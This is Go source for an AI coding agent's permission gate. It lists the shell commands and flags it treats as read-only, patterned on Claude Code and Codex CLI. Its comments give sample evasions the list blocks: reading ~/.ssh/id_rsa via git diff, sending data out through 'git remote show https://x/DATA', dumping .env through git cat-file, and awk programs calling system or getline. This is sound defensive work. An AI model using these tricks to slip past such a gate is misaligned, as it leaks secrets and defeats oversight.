package builtin

import (
	"strings"
	"sync"
)

// The read-only verdict is an allow-list of commands and of their flags,
// as Claude Code and Codex CLI judge shell commands: a command that is
// not listed, or a listed one with a flag that is not, is not read-only.
// Flags that write (sort -o, git diff --output, tree -o), execute (find
// -exec, rg --pre, diff --paginate, file -z) or reach outside the command
// (git -c, git --git-dir) are left out on purpose. The edit commands
// (mkdir, touch, rm, rmdir, mv, cp, ln, chmod, chown, chgrp, tee, sed -i)
// are listed too, with their flags, so their targets are known: they are
// never read-only, and their targets are judged like Write's.

// operandKind is what a command's operands are.
type operandKind uint8

const (
	opNone  operandKind = iota // none allowed
	opText                     // any words, expansions included; printed, never paths
	opWords                    // literal words naming nothing read: patterns, revisions
	opNames                    // paths whose names or metadata are shown, not contents
	opFiles                    // files whose contents are read
	// opFirstWord: the first operand is a pattern or program (unless a
	// flag of wordFlags gave it), the others files read.
	opFirstWord
)

// editKind is how an edit command's operands are written.
type editKind uint8

const (
	notEdit    editKind = iota
	editAll             // every operand is created, changed or removed
	editCopy            // the last operand (or -t DIR) is written, the others read
	editMove            // every operand is written: sources go, the target comes
	editLink            // the last operand (or -t DIR) is written, the others only named
	editAfter1          // the operands after the first (a mode or an owner) are changed
)

// cmdSpec is one command of the allow-list.
type cmdSpec struct {
	flags   flagSet
	numeric bool // -NUM is a flag (head -5, grep -3)
	posix   bool // flags end at the first operand
	ops     operandKind
	// wordFlags give opFirstWord's word (grep -e), so every operand is a file.
	wordFlags []string
	// maxOps bounds the operands (0: no bound).
	maxOps int
	// recursive reports whether the files read are whole trees.
	recursive func(p *parsedArgs) bool
	// dirsRead: an operand that is a directory has the files in it read
	// (diff a/ b/ compares the files of both, without -r).
	dirsRead bool
	// ownParser: the command reads its flags its own way, not getopt's
	// (tree -Io x reads -I x and then -o), so only one flag a word is
	// judged.
	ownParser parserKind
	// check returns why an invocation that parsed is still not read-only.
	check func(p *parsedArgs) string
	// subs are subcommands (git log); the first operand selects one.
	subs map[string]*cmdSpec
	edit editKind
	// autoEdit commands are allowed in accept_edits and dont_ask when
	// every target lies in a working directory (the reference's list).
	autoEdit bool
}

// parserKind is how a command reads its flags.
type parserKind uint8

const (
	getopt          parserKind = iota // combined and attached, GNU's way
	ownParserStrict                   // one flag a word, values apart
	ownParserDigits                   // one flag a word, digits attached
)

func always(*parsedArgs) bool { return true }

func flagged(names ...string) func(p *parsedArgs) bool {
	return func(p *parsedArgs) bool { return p.has(names...) }
}

// without refuses an invocation that uses any of names.
func without(names ...string) func(p *parsedArgs) string {
	return func(p *parsedArgs) string {
		for _, n := range names {
			if p.has(n) {
				return "flag " + n + " writes or executes"
			}
		}
		return ""
	}
}

// commands is the allow-list, by command name. It and the flag tables it
// refers to are built on first use: a process that never judges a Bash
// command (agentscope serve at start, chat) does not pay their 0.3 MB of
// heap and the time to build them.
var commands = sync.OnceValue(func() map[string]*cmdSpec {
	var (
		grepFlags = flags("abcDEFGhHiIlLnoqrRsTuUvVwxyzZP"+"A:B:C:d:D:e:f@m:",
			"--extended-regexp --fixed-strings --basic-regexp --perl-regexp --regexp= --file=@ "+
				"--ignore-case --no-ignore-case --word-regexp --line-regexp --null-data --no-messages "+
				"--invert-match --version --help --max-count= --byte-offset --line-number --no-line-number "+
				"--line-buffered --with-filename --no-filename --label= --only-matching --quiet --silent "+
				"--binary-files= --text --directories= --devices= --recursive --dereference-recursive "+
				"--include= --exclude= --exclude-from=@ --exclude-dir= --files-without-match "+
				"--files-with-matches --count --initial-tab --null --before-context= --after-context= "+
				"--context= --color=? --colour=? --binary")
		grepSpec = &cmdSpec{
			flags: grepFlags, numeric: true, ops: opFirstWord,
			wordFlags: []string{"-e", "-f", "--regexp", "--file"},
			recursive: func(p *parsedArgs) bool {
				return p.has("-r", "-R", "--recursive", "--dereference-recursive") || strings.Join(p.flags["-d"], "") == "recurse" || strings.Join(p.flags["--directories"], "") == "recurse"
			},
		}

		// git's diff and log options shared by log, show, diff and friends,
		// without --output (writes a file), --ext-diff (runs a program) and
		// --open-files-in-pager. git takes some values only attached (-U5,
		// --unified=5, --format=x, --min-parents=2): given apart, the next
		// word is a word of its own to git (a flag: --format --output=FILE,
		// or a path: git diff --no-index -U ~/.ssh/id_rsa a.txt), so they
		// are optional values here, and a git value that starts with "-"
		// asks (parsedArgs.dashValue).
		gitDiffFlags = flags("pusz"+"U?M?C?B?l?S:G:O@"+"RDabwWX?",
			"--patch --no-patch --unified=? --raw --patch-with-raw --patch-with-stat --numstat --shortstat "+
				"--stat=? --compact-summary --dirstat=? --cumulative --summary --name-only --name-status "+
				"--submodule=? --color=? --no-color --color-moved=? --no-color-moved --color-moved-ws= "+
				"--word-diff=? --word-diff-regex= --color-words=? --no-renames --rename-empty --no-rename-empty "+
				"--check --ws-error-highlight= --full-index --binary --abbrev=? --break-rewrites=? "+
				"--find-renames=? --find-copies=? --find-copies-harder --irreversible-delete -D "+
				"--diff-filter= --find-object= --pickaxe-all --pickaxe-regex --skip-to= --rotate-to= "+
				"--relative=? --no-relative --text --ignore-cr-at-eol --ignore-space-at-eol "+
				"--ignore-space-change --ignore-all-space --ignore-blank-lines --ignore-matching-lines= "+
				"--inter-hunk-context= --function-context --exit-code --quiet --no-ext-diff --textconv "+
				"--no-textconv --ignore-submodules=? --src-prefix= --dst-prefix= --no-prefix --default-prefix "+
				"--line-prefix= --ita-invisible-in-index --ita-visible-in-index --minimal --patience "+
				"--histogram --anchored= --diff-algorithm= --indent-heuristic --no-indent-heuristic "+
				"--stat-width= --stat-name-width= --stat-count= --stat-graph-width= --output-indicator-new= "+
				"--output-indicator-old= --output-indicator-context= --merge-base --no-index --cached --staged "+
				"--merge=? --base --ours --theirs -0 -1 -2 -3 --cc --combined-all-paths --dd --remerge-diff "+
				"--diff-merges= --no-diff-merges --first-parent --ignore-all-space --help")
		gitLogFlags = flags("ipEFgcmt"+"n:L:",
			"--oneline --graph --decorate=? --no-decorate --decorate-refs= --decorate-refs-exclude= "+
				"--source --mailmap --no-mailmap --use-mailmap --no-use-mailmap --full-diff --log-size "+
				"--all --branches=? --tags=? --remotes=? --glob= --exclude= --reflog --alternate-refs "+
				"--single-worktree --ignore-missing --bisect --stdin --cherry-mark --cherry-pick "+
				"--left-only --right-only --cherry --walk-reflogs --merges --no-merges --min-parents=? "+
				"--max-parents=? --no-min-parents --no-max-parents --first-parent --exclude-first-parent-only "+
				"--not --max-count= --skip= --since= --after= --since-as-filter= --until= --before= "+
				"--author= --committer= --grep-reflog= --grep= --all-match --invert-grep --regexp-ignore-case "+
				"--basic-regexp --extended-regexp --fixed-strings --perl-regexp --remove-empty --follow "+
				"--simplify-by-decoration --show-pulls --full-history --dense --sparse --simplify-merges "+
				"--ancestry-path=? --date-order --author-date-order --topo-order --reverse --no-walk=? "+
				"--do-walk --pretty=? --format=? --abbrev-commit --no-abbrev-commit --expand-tabs=? "+
				"--no-expand-tabs --notes=? --no-notes --show-notes=? --show-signature --relative-date "+
				"--date= --parents --children --left-right --boundary --count --show-linear-break=? "+
				"--encoding= --abbrev=? --no-abbrev --raw --count --objects --objects-edge "+
				"--unpacked --timestamp --show-origin --show-scope")
		gitLog = &cmdSpec{flags: gitDiffFlags.with(gitLogFlags), numeric: true, ops: opFiles}

		gitListFlags = flags("alrvi"+"n?",
			"--list --all --remotes --verbose --contains=? --no-contains=? --merged=? --no-merged=? "+
				"--points-at= --sort= --format= --color=? --no-color --column=? --no-column "+
				"--show-current --abbrev=? --no-abbrev --omit-empty --ignore-case")

		// listing reports whether git branch or tag only lists: any operand
		// names a new branch or tag unless -l or --list made it a pattern.
		listing = func(p *parsedArgs) string {
			if len(p.operands) > 0 && !p.has("-l", "--list") {
				return "it creates a branch or tag"
			}
			return ""
		}

		gitSubs = map[string]*cmdSpec{
			"status": {flags: flags("sbvz"+"u?", "--short --branch --show-stash --porcelain=? --long --verbose "+
				"--untracked-files=? --ignore-submodules=? --ignored=? --column=? --no-column --ahead-behind "+
				"--no-ahead-behind --renames --no-renames --find-renames=? --null"), ops: opNames},
			"log":         gitLog,
			"show":        gitLog,
			"diff":        {flags: gitDiffFlags, ops: opFiles, recursive: flagged("--no-index")},
			"shortlog":    {flags: gitLogFlags.with(flags("nsec"+"w?", "--numbered --summary --email --committer --group= --format=")), ops: opWords},
			"whatchanged": gitLog,
			"blame": {flags: flags("bltsfnepwc"+"M?C?L:S@", "--root --show-stats --score-debug --show-name "+
				"--show-number --porcelain --line-porcelain --incremental --encoding= --contents=@ --date= "+
				"--progress --no-progress --ignore-rev= --ignore-revs-file=@ --color-lines --color-by-age "+
				"--minimal --abbrev=?"), ops: opFiles},
			"branch":   {flags: gitListFlags, ops: opWords, check: listing},
			"tag":      {flags: gitListFlags, ops: opWords, check: listing},
			"ls-files": {flags: flags("cdmoisukvtzf"+"x:X@", "--cached --deleted --modified --others --ignored --stage --unmerged --killed --directory --no-empty-directory --eol --exclude= --exclude-from=@ --exclude-per-directory= --exclude-standard --error-unmatch --full-name --recurse-submodules --abbrev=? --debug --deduplicate --format= --sparse"), ops: opNames},
			"ls-tree":  {flags: flags("drtlz", "--name-only --name-status --object-only --full-name --full-tree --abbrev=? --format= --long"), ops: opWords},
			// cat-file without --batch and --batch-command: they print the
			// contents of objects named on stdin (echo HEAD:.env | git
			// cat-file --batch), which the analysis does not see.
			"cat-file": {flags: flags("tspeZ", "--batch-check=? --batch-all-objects --buffer --follow-symlinks --textconv --filters --path= --unordered --allow-unknown-type --use-mailmap --no-use-mailmap"), ops: opWords},
			"rev-parse": {flags: flags("q", "--show-toplevel --show-prefix --show-cdup --git-dir --git-common-dir "+
				"--absolute-git-dir --is-inside-work-tree --is-inside-git-dir --is-bare-repository "+
				"--is-shallow-repository --abbrev-ref=? --short=? --verify --quiet --symbolic "+
				"--symbolic-full-name --all --branches=? --tags=? --remotes=? --glob=? --default= "+
				"--local-env-vars --path-format= --git-path= --show-superproject-working-tree "+
				"--show-object-format=? --since=? --until=? --sq --not --revs-only --no-revs --flags --no-flags"), ops: opWords},
			// rev-list has no -L, and takes --decorate-refs only attached.
			"rev-list": {flags: gitLogFlags.without("-L").with(flags("", "--left-right --in-commit-order --disk-usage=? --quiet --no-object-names "+
				"--decorate-refs=? --decorate-refs-exclude=?")), numeric: true, ops: opWords},
			"describe":      {flags: flags("", "--tags --all --long --abbrev= --always --dirty=? --broken=? --exact-match --candidates= --match= --exclude= --first-parent --contains"), ops: opWords},
			"merge-base":    {flags: flags("a", "--all --octopus --independent --is-ancestor --fork-point"), ops: opWords},
			"show-ref":      {flags: flags("dsq", "--heads --tags --head --dereference --hash=? --abbrev=? --verify --quiet --exclude-existing=? --branches --exists"), ops: opWords},
			"count-objects": {flags: flags("vH", "--verbose --human-readable")},
			"grep": {flags: flags("aiIwvhHnlLcopWzqEGFPr"+"e:f@A:B:C:m:", "--cached --untracked --no-index "+
				"--recurse-submodules --heading --break --line-number --column --full-name --files-with-matches "+
				"--name-only --files-without-match --count --all-match --and --or --not --max-depth= --threads= "+
				"--color=? --no-color --ignore-case --word-regexp --invert-match --extended-regexp --basic-regexp "+
				"--fixed-strings --perl-regexp --show-function --function-context --null --quiet "+
				"--exclude-standard --no-exclude-standard --textconv --no-textconv --text"),
				numeric: true, ops: opFirstWord, wordFlags: []string{"-e", "-f"}, recursive: always},
			"config": {flags: flags("lz"+"f@", "--get --get-all --get-regexp --get-urlmatch --list --show-origin --show-scope --name-only --null --type= --default= --global --system --local --worktree --file=@ --blob= --includes --no-includes --bool --int --bool-or-int --path --expiry-date"),
				ops: opWords, check: gitConfigRead},
			// stash, worktree, remote and reflog read only through the
			// subcommands listed, named first: "git stash -m list" is git
			// stash push.
			"stash": {subs: map[string]*cmdSpec{
				"list": {flags: gitLog.flags, numeric: true, ops: opWords},
				"show": {flags: gitDiffFlags.with(flags("", "--include-untracked --only-untracked")), ops: opWords, maxOps: 1},
			}, check: func(*parsedArgs) string { return "it changes the stash" }},
			"worktree": {subs: map[string]*cmdSpec{
				"list": {flags: flags("vz", "--porcelain --verbose --expire=")},
			}, check: func(*parsedArgs) string { return "it changes worktrees" }},
			"remote": {flags: flags("v", "--verbose"), subs: map[string]*cmdSpec{
				"get-url": {flags: flags("", "--push --all"), ops: opWords, maxOps: 1},
				// show asks its remote unless -n: an operand that is a
				// URL or a path, not a remote's name, is a request to any
				// host the model names (git remote show https://x/DATA).
				"show": {flags: flags("n", ""), ops: opWords, maxOps: 1, check: remoteShow},
			}},
			"reflog": {flags: gitLog.flags, numeric: true, subs: map[string]*cmdSpec{
				"show":   {flags: gitLog.flags, numeric: true, ops: opWords},
				"exists": {ops: opWords, maxOps: 1},
			}},
			"version": {flags: flags("", "--build-options")},
		}

		// docker inspect is not here: a container's configuration holds
		// its environment, where its secrets usually are.
		dockerSubs = map[string]*cmdSpec{
			"ps":      {flags: flags("aqsn:l"+"f:", "--all --quiet --size --last= --latest --filter= --format= --no-trunc")},
			"images":  {flags: flags("aq"+"f:", "--all --quiet --filter= --format= --no-trunc --digests --tree"), ops: opWords},
			"logs":    {flags: flags("ft"+"n:", "--follow --timestamps --tail= --since= --until= --details"), ops: opWords, maxOps: 1},
			"version": {flags: flags("f:", "--format=")},
			"info":    {flags: flags("f:", "--format=")},
		}

		ghList = flags("d"+"a:A:B:H:l:L:s:S:m:R:q:t:", "--assignee= --author= --base= --head= --label= "+
			"--limit= --state= --search= --json= --jq= --template= --app= --draft --mention= --milestone= --repo=")
		ghSubs = map[string]*cmdSpec{
			"repo":   {ops: opWords, subs: map[string]*cmdSpec{"view": {flags: flags("b:q:t:", "--branch= --json= --jq= --template="), ops: opWords, maxOps: 1, check: ghRepoOnGitHub}}},
			"issue":  {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList, check: ghRepoOnGitHub}}},
			"pr":     {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList, check: ghRepoOnGitHub}}},
			"status": {flags: flags("e:o:", "--exclude= --org=")},
		}

		versionOnly = &cmdSpec{flags: flags("V", "--version"), check: func(p *parsedArgs) string {
			if len(p.flags) == 0 {
				return "it runs a program"
			}
			return ""
		}}
		nodeVersion = &cmdSpec{flags: flags("v", "--version"), check: versionOnly.check}
		pipSubs     = map[string]*cmdSpec{
			"list": {flags: flags("oulev", "--outdated --uptodate --editable --local --user --format= --not-required --exclude-editable --include-editable --path= --exclude= --verbose")},
			"show": {flags: flags("fv", "--files --verbose"), ops: opWords},
		}
		npmSubs = map[string]*cmdSpec{
			"list": {flags: flags("aglpw:", "--depth= --json --all --long --parseable --global --prod --production --dev --omit= --include= --link --package-lock-only --unicode --workspace= --workspaces"), ops: opWords},
		}
		sumSpec = &cmdSpec{flags: flags("bctwz", "--binary --check --tag --text --zero --ignore-missing --quiet --status --strict --warn --length="), ops: opFiles}
	)
	return map[string]*cmdSpec{
		"echo":   {ops: opText},
		"printf": {ops: opText},
		":":      {ops: opText},
		"true":   {ops: opText},
		"false":  {ops: opText},
		"pwd":    {flags: flags("LP", "")},
		"cd":     {flags: flags("LP", ""), ops: opNames, maxOps: 1},
		"ls": {flags: flags("aAbBcCdfFgGhHiklLmnNopqQrRsStuUvxXZ1"+"I:T:w:",
			"--all --almost-all --author --escape --block-size= --ignore-backups --color=? --directory --dired "+
				"--classify=? --file-type --format= --full-time --group-directories-first --no-group "+
				"--human-readable --si --dereference-command-line --dereference-command-line-symlink-to-dir "+
				"--hide= --hyperlink=? --indicator-style= --inode --ignore= --kibibytes --dereference "+
				"--numeric-uid-gid --literal --hide-control-chars --show-control-chars --quote-name "+
				"--quoting-style= --reverse --recursive --size --sort= --time= --time-style= --tabsize= "+
				"--width= --context --zero --help --version"), ops: opNames},
		"cat": {flags: flags("AbeEnstTuv", "--show-all --number-nonblank --show-ends --number --squeeze-blank --show-tabs --show-nonprinting --help --version"), ops: opFiles},
		"head": {flags: flags("qvz"+"n:c:", "--bytes= --lines= --quiet --silent --verbose --zero-terminated --help --version"),
			numeric: true, ops: opFiles},
		"tail": {flags: flags("qvzfF"+"n:c:s:", "--bytes= --lines= --follow=? --retry --sleep-interval= --pid= --quiet --silent --verbose --zero-terminated --max-unchanged-stats= --help --version"),
			numeric: true, ops: opFiles},
		// Without --files0-from: the files its list names are read, unseen.
		"wc": {flags: flags("clmwL", "--bytes --chars --lines --words --max-line-length --total= --help --version"), ops: opFiles},
		// Without -f (--files-from), whose list names files read unseen, and
		// -m (--magic-file).
		"file": {flags: flags("bcEhiklLNnprsS0"+"F:", "--brief --mime --mime-type --mime-encoding --dereference --no-dereference --keep-going --raw --special-files --no-pad --print0 --extension --apple --separator= --help --version"), ops: opFiles},
		"stat": {flags: flags("LftZ"+"c:", "--dereference --file-system --format= --printf= --terse --cached= --help --version"), ops: opNames},
		"du": {flags: flags("0abcDhHklLmPsSx"+"d:B:t:X@", "--all --apparent-size --block-size= --bytes --total --dereference-args --max-depth= --human-readable --inodes --dereference --count-links --no-dereference --separate-dirs --si --summarize --threshold= --time=? --time-style= --exclude= --exclude-from=@ --one-file-system --null --help --version"),
			ops: opNames},
		"df":      {flags: flags("ahHiklPT"+"B:t:x:", "--all --block-size= --human-readable --si --inodes --local --output=? --portability --print-type --type= --exclude-type= --total --no-sync --sync --help --version"), ops: opNames},
		"tree":    {flags: flags("adlfixpsughDFqNQrtvUCnJX"+"L:P:I:", "--noreport --dirsfirst --charset= --filelimit= --du --prune --matchdirs --ignore-case --gitignore --info --sort= --help --version"), ops: opNames, ownParser: ownParserStrict},
		"which":   {flags: flags("a", ""), ops: opWords},
		"whereis": {flags: flags("bmsulf"+"B:M:S:", ""), ops: opWords},
		"type":    {flags: flags("afptP", ""), ops: opWords},
		"find":    {}, // judged by findReadOnly
		"grep":    grepSpec,
		"egrep":   grepSpec,
		"fgrep":   grepSpec,
		"rg": {flags: flags("0cFHhiIlLnNopqsSuUvwx"+"A:B:C:e:f@g:j:m:M:r:t:T:E:d:", "--after-context= --before-context= "+
			"--context= --case-sensitive --ignore-case --smart-case --count --count-matches --files "+
			"--files-with-matches --files-without-match --fixed-strings --follow --glob= --iglob= --hidden "+
			"--no-ignore --no-ignore-vcs --no-ignore-parent --no-ignore-dot --no-ignore-global "+
			"--no-ignore-exclude --line-number --no-line-number --max-count= --max-depth= --max-filesize= "+
			"--multiline --multiline-dotall --null --only-matching --passthru --pretty --quiet --regexp= "+
			"--file=@ --replace= --sort= --sortr= --stats --text --threads= --type= --type-not= --type-list "+
			"--unrestricted --vimgrep --with-filename --no-filename --word-regexp --line-regexp --json "+
			"--color= --colors= --heading --no-heading --column --no-column --trim --max-columns= "+
			"--invert-match --byte-offset --crlf --encoding= --engine= --pcre2 --no-messages --help "+
			"--version --glob-case-insensitive --one-file-system --no-config"),
			ops: opFirstWord, wordFlags: []string{"-e", "-f", "--regexp", "--file", "--files", "--type-list"}, recursive: always},
		"sort": {flags: flags("bcCdfghiMmnrRsuVz"+"k:t:S:", "--ignore-leading-blanks --dictionary-order --ignore-case --general-numeric-sort --ignore-nonprinting --month-sort --human-numeric-sort --numeric-sort --random-sort --random-source=@ --reverse --sort= --version-sort --check=? --merge --key= --field-separator= --buffer-size= --stable --unique --zero-terminated --parallel= --debug --help --version"),
			ops: opFiles},
		// uniq INPUT OUTPUT writes OUTPUT.
		"uniq":     {flags: flags("cdDiuz"+"f:s:w:", "--count --repeated --all-repeated=? --group=? --ignore-case --unique --zero-terminated --skip-fields= --skip-chars= --check-chars= --help --version"), ops: opFiles, maxOps: 1},
		"cut":      {flags: flags("snz"+"b:c:d:f:", "--bytes= --characters= --delimiter= --fields= --complement --only-delimited --output-delimiter= --zero-terminated --help --version"), ops: opFiles},
		"tr":       {flags: flags("cCdst", "--complement --delete --squeeze-repeats --truncate-set1 --help --version"), ops: opWords},
		"nl":       {flags: flags("p"+"b:d:f:h:i:l:n:s:v:w:", "--help --version"), ops: opFiles},
		"tac":      {flags: flags("br"+"s:", "--before --regex --separator= --help --version"), ops: opFiles},
		"rev":      {ops: opFiles},
		"fold":     {flags: flags("bs"+"w:", "--bytes --spaces --width= --help --version"), ops: opFiles},
		"paste":    {flags: flags("sz"+"d:", "--serial --delimiters= --zero-terminated --help --version"), ops: opFiles},
		"join":     {flags: flags("iz"+"j:1:2:a:e:o:t:v:", "--ignore-case --check-order --nocheck-order --header --zero-terminated --help --version"), ops: opFiles, maxOps: 2},
		"comm":     {flags: flags("123z", "--check-order --nocheck-order --output-delimiter= --total --zero-terminated --help --version"), ops: opFiles, maxOps: 2},
		"column":   {flags: flags("txdeJL"+"n:O:c:o:s:E:H:R:T:W:N:l:r:i:p:", "--table --table-noheadings --separator= --output-separator= --output-width= --table-columns= --table-right= --json --fillrows --help --version"), ops: opFiles},
		"expand":   {flags: flags("i"+"t:", "--initial --tabs= --help --version"), numeric: true, ops: opFiles},
		"unexpand": {flags: flags("a"+"t:", "--all --first-only --tabs= --help --version"), ops: opFiles},
		"od":       {flags: flags("bcdfiloxsv"+"A:j:N:t:S:w?", "--address-radix= --endian= --skip-bytes= --read-bytes= --format= --output-duplicates --strings=? --width=? --traditional --help --version"), ops: opFiles},
		"hexdump":  {flags: flags("bcCdoxv"+"e:f@n:s:", "--help --version"), ops: opFiles},
		// xxd INFILE OUTFILE writes OUTFILE, and -r turns a dump back into one.
		// It reads flags only before its operands, and its own way.
		"xxd": {flags: flags("abCdeEiuh"+"c:g:l:o:s:n:", "--help --version"), posix: true, ownParser: ownParserDigits, ops: opFiles, maxOps: 1},
		// binutils reads a word @FILE as more words, from FILE.
		"strings":   {flags: flags("afw"+"n:t:e:T:", "--all --print-file-name --bytes= --radix= --encoding= --target= --include-all-whitespace --output-separator= --help --version"), ops: opFiles, check: noResponseFile},
		"md5sum":    sumSpec,
		"sha1sum":   sumSpec,
		"sha224sum": sumSpec,
		"sha256sum": sumSpec,
		"sha384sum": sumSpec,
		"sha512sum": sumSpec,
		"b2sum":     sumSpec,
		"cksum":     {flags: flags("a:l:", "--algorithm= --length= --raw --tag --untagged --base64 --check --help --version"), ops: opFiles},
		"base64":    {flags: flags("diw:", "--decode --ignore-garbage --wrap= --help --version"), ops: opFiles, maxOps: 1},
		"cmp":       {flags: flags("bilsn:", "--print-bytes --ignore-initial= --verbose --bytes= --quiet --silent --help --version"), ops: opFiles, maxOps: 2},
		// diff -l (--paginate) runs pr.
		"diff": {flags: flags("abBcdeEfhHiINnpqrstTuwyZ"+"C:D:F:I:L:S:U:W:x:X@", "--brief --report-identical-files --context=? "+
			"--unified=? --ed --normal --side-by-side --width= --left-column --suppress-common-lines "+
			"--show-c-function --show-function-line= --label= --expand-tabs --initial-tab --tabsize= "+
			"--suppress-blank-empty --recursive --no-dereference --new-file --unidirectional-new-file "+
			"--ignore-file-name-case --no-ignore-file-name-case --exclude= --exclude-from=@ --starting-file= "+
			"--from-file=@ --to-file=@ --ignore-case --ignore-tab-expansion --ignore-trailing-space "+
			"--ignore-space-change --ignore-all-space --ignore-blank-lines --ignore-matching-lines= --text "+
			"--strip-trailing-cr --minimal --horizon-lines= --speed-large-files --color=? --palette= "+
			"--help --version"), ops: opFiles, dirsRead: true},
		// Without -L: a module search path lets `import "config" as $c`
		// read any JSON file there.
		"jq": {flags: flags("ncrjaCMSseh"+"f@", "--null-input --compact-output --raw-output --raw-output0 --join-output --ascii-output --color-output --monochrome-output --sort-keys --slurp --exit-status --tab --indent= --unbuffered --stream --stream-errors --seq --arg=2 --argjson=2 --slurpfile=n@ --rawfile=n@ --args --jsonargs --from-file=@ --help --version"),
			ops: opFirstWord, wordFlags: []string{"-f", "--from-file"}, check: jqProgram},
		"awk":      {flags: flags("F:v:f@", ""), posix: true, ops: opFirstWord, wordFlags: []string{"-f"}, check: awkProgram},
		"gawk":     {flags: flags("F:v:f@", ""), posix: true, ops: opFirstWord, wordFlags: []string{"-f"}, check: awkProgram},
		"mawk":     {flags: flags("F:v:f@", ""), posix: true, ops: opFirstWord, wordFlags: []string{"-f"}, check: awkProgram},
		"sed":      {}, // judged by sedReadOnly and SedViolation
		"basename": {flags: flags("az"+"s:", "--multiple --suffix= --zero --help --version"), ops: opWords},
		"dirname":  {flags: flags("z", "--zero --help --version"), ops: opWords},
		"realpath": {flags: flags("emLPqsz", "--canonicalize-existing --canonicalize-missing --logical --physical --quiet --relative-to= --relative-base= --strip --no-symlinks --zero --help --version"), ops: opNames},
		"readlink": {flags: flags("efmnqsvz", "--canonicalize --canonicalize-existing --canonicalize-missing --no-newline --quiet --silent --verbose --zero --help --version"), ops: opNames},
		"whoami":   {flags: flags("", "--help --version")},
		"id":       {flags: flags("agGnruzZ", "--context --group --groups --name --real --user --zero --help --version"), ops: opWords, maxOps: 1},
		"uname":    {flags: flags("asnrvmpio", "--all --kernel-name --nodename --kernel-release --kernel-version --machine --processor --hardware-platform --operating-system --help --version")},
		// hostname NAME sets the host name.
		"hostname": {flags: flags("fsidAIy", "--fqdn --short --ip-address --all-ip-addresses --domain --all-fqdns --long --help --version")},
		// date -s and date MMDDhhmm set the clock.
		"date": {flags: flags("uRI?"+"d:f@r@", "--date= --file=@ --reference=@ --utc --universal --rfc-email --iso-8601=? --rfc-3339= --debug --resolution --help --version"), ops: opWords,
			check: func(p *parsedArgs) string {
				for _, o := range p.operands {
					if !strings.HasPrefix(o.value, "+") {
						return "it sets the clock"
					}
				}
				return ""
			}},
		"nproc":  {flags: flags("", "--all --ignore= --help --version")},
		"uptime": {flags: flags("ps", "--pretty --since --help --version")},
		"sleep":  {ops: opWords},
		"seq":    {flags: flags("w"+"f:s:", "--format= --separator= --equal-width --help --version"), numeric: true, ops: opWords},
		"git": {flags: flags("P"+"C:", "--no-pager --no-optional-locks --version --help --literal-pathspecs --no-replace-objects"),
			posix: true, subs: gitSubs, check: func(p *parsedArgs) string {
				if len(p.operands) == 0 && !p.has("--version") {
					return "it runs git without a subcommand"
				}
				return ""
			}},
		"docker":  {posix: true, subs: dockerSubs},
		"gh":      {posix: true, subs: ghSubs},
		"python":  versionOnly,
		"python3": versionOnly,
		"node":    nodeVersion,
		"npm": {flags: flags("v", "--version"), posix: true, subs: map[string]*cmdSpec{"list": npmSubs["list"], "ls": npmSubs["list"]},
			check: versionOnly.check},
		"pip":  {flags: flags("V", "--version"), posix: true, subs: pipSubs, check: versionOnly.check},
		"pip3": {flags: flags("V", "--version"), posix: true, subs: pipSubs, check: versionOnly.check},
		"go": {posix: true, subs: map[string]*cmdSpec{
			"version": {flags: flags("mv", ""), ops: opNames},
			"env":     {flags: flags("", "-json -changed"), ops: opWords},
		}},

		// The edit commands: never read-only; their targets are judged.
		// cp, mv and ln go without -S (--suffix): a backup named
		// TARGET+SUFFIX may be a path of its own ("-S /../../.bashrc").
		"mkdir": {flags: flags("pv"+"m:", "--parents --verbose --mode= --help --version"), ops: opNames, edit: editAll, autoEdit: true},
		"touch": {flags: flags("acfhm"+"d:r@t:", "--no-create --date= --reference=@ --no-dereference --time= --help --version"), ops: opNames, edit: editAll, autoEdit: true},
		"rm": {flags: flags("fiIrRdv", "--force --interactive=? --one-file-system --preserve-root=? --recursive --dir --verbose --help --version"),
			ops: opNames, edit: editAll, autoEdit: true},
		"rmdir": {flags: flags("pv", "--ignore-fail-on-non-empty --parents --verbose --help --version"), ops: opNames, edit: editAll, autoEdit: true},
		"mv": {flags: flags("bfinuvTZ"+"t:", "--backup=? --force --interactive --no-clobber --update=? --verbose --target-directory= --no-target-directory --strip-trailing-slashes --exchange --help --version"),
			ops: opNames, edit: editMove, autoEdit: true},
		"cp": {flags: flags("aAbdfHiLlnPpRrsuvxTZ"+"t:", "--archive --backup=? --force --interactive --link --dereference --no-clobber --no-dereference --preserve=? --no-preserve= --parents --recursive --reflink=? --remove-destination --sparse= --strip-trailing-slashes --symbolic-link --target-directory= --no-target-directory --update=? --verbose --one-file-system --help --version"),
			ops: opFiles, edit: editCopy, autoEdit: true},
		"ln":    {flags: flags("bfinrsvLPT"+"t:", "--backup=? --force --interactive --logical --no-dereference --physical --relative --symbolic --target-directory= --no-target-directory --verbose --help --version"), ops: opNames, edit: editLink},
		"chmod": {flags: flags("cfvR", "--changes --silent --quiet --verbose --no-preserve-root --preserve-root --recursive --reference=@ --help --version"), ops: opNames, edit: editAfter1},
		"chown": {flags: flags("cfvRhHLP", "--changes --silent --quiet --verbose --dereference --no-dereference --from= --no-preserve-root --preserve-root --recursive --reference=@ --help --version"), ops: opNames, edit: editAfter1},
		"chgrp": {flags: flags("cfvRhHLP", "--changes --silent --quiet --verbose --dereference --no-dereference --no-preserve-root --preserve-root --recursive --reference=@ --help --version"), ops: opNames, edit: editAfter1},
		"tee":   {flags: flags("aip", "--append --ignore-interrupts --output-error=? --help --version"), ops: opNames, edit: editAll, autoEdit: true},
	}
})

// noResponseFile refuses a word @FILE: binutils reads more words from
// FILE, which the analysis does not see.
func noResponseFile(p *parsedArgs) string {
	for _, o := range p.operands {
		if strings.HasPrefix(o.value, "@") {
			return "it reads more arguments from " + o.value
		}
	}
	for _, vs := range p.flags {
		for _, v := range vs {
			if strings.HasPrefix(v, "@") {
				return "it reads more arguments from " + v
			}
		}
	}
	return ""
}

// awkProgram refuses an awk program that could run a command or write a
// file: system(), getline (from a command), pipes, redirections (">" is
// also awk's comparison; such a program asks), close, fflush and gawk's
// @load, or one read from a file (-f).
func awkProgram(p *parsedArgs) string {
	if p.has("-f") {
		return "its program is read from a file"
	}
	if len(p.operands) == 0 {
		return "it has no program"
	}
	prog := p.operands[0].value
	for _, bad := range []string{"system", "getline", "|", ">", "close", "fflush", "@", "print0", "ARGV", "ARGC"} {
		if strings.Contains(prog, bad) {
			return "its program may run commands or write files (" + bad + ")"
		}
	}
	return ""
}

// jqProgram refuses a jq program that loads modules or data files
// (import, include: they read files the analysis does not see), or one
